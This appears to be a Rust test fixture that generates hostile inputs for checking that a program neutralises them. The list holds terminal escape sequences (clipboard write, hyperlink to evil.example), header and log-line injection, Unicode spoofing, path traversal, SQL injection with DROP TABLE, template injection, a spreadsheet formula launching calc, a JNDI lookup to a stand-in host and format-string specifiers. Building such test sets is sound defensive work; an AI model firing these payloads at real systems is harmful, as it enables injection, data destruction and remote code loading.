//! What somebody sends who wants to steer a terminal, forge a line, leave a folder or a string.

/// Stands in each of them, and in nothing else.
pub(super) const MARK: &str = "evil";

/// One for each way out of what it is put into.
pub(super) fn inputs() -> Vec<Vec<u8>> {
    let texts = [
        // Colours, a title, a link, the clipboard, a cursor that goes up; also as C1.
        "evil\u{1b}[31;1mred\u{1b}[0m",
        "evil\u{1b}]0;title\u{7}\u{1b}[2J\u{1b}[1A",
        "evil\u{1b}]8;;http://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
        "evil\u{1b}]52;c;ZXZpbA==\u{7}",
        "evil\u{9b}31m\u{9d}0;title\u{9c}",
        // Lines and headers of their own.
        "evil\r\nX-Evil: 1\r\n\r\nevil body",
        "evil\n2026-01-01T00:00:00.000000Z  INFO dialtone::app: evil was let in",
        "evil\u{85}\u{2028}evil",
        "evil%0d%0aX-Evil:%201%0d%0a",
        "evil\",\"result\":\"success\",\"x\":\"",
        "evil\0after",
        // What is read otherwise than it is.
        "evil\u{202e}gfc.cfg\u{2066}",
        "evil\u{200b}\u{feff}\u{ad}\u{e0041}name",
        "evil\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
        // Out of the folder, the string, the cell, the template.
        "../../../../etc/evil",
        "%2e%2e%2f%2e%2e%2fetc%2fevil",
        "..\\..\\evil",
        "evil' OR '1'='1'; DROP TABLE device;--",
        "evil\");DROP TABLE device;--",
        "{{ 7191 * 7 }}{% raw %}evil{# ",
        "{% for x in range(9) %}evil{% endfor %}",
        "=cmd|'/c calc'!A1evil",
        "@SUM(1+1)*evil,\"a\"\"b\",;\t",
        "<evil a='1'>&amp;]]></evil><!--",
        "evil\\ud800\\u0000",
        "${jndi:ldap://evil.example/}`$(evil)`",
        "evil %s%s%n %x {} {0}",
    ];
    let mut all: Vec<Vec<u8>> = texts.iter().map(|text| text.as_bytes().to_vec()).collect();
    all.push(b"evil\xff\xfe\xc0\xaf\xed\xa0\x80".to_vec());
    all.push(b"evil\x9b31m\x90".to_vec());
    all.push(["evil", &"A".repeat(6_000)].concat().into_bytes());
    all.push(["evil", &"\u{202e}".repeat(90)].concat().into_bytes());
    all
}

/// As a client escapes it that means to get it through.
pub(super) fn escaped(input: &[u8]) -> Vec<u8> {
    input.iter().flat_map(|byte| format!("%{byte:02x}").into_bytes()).collect()
}
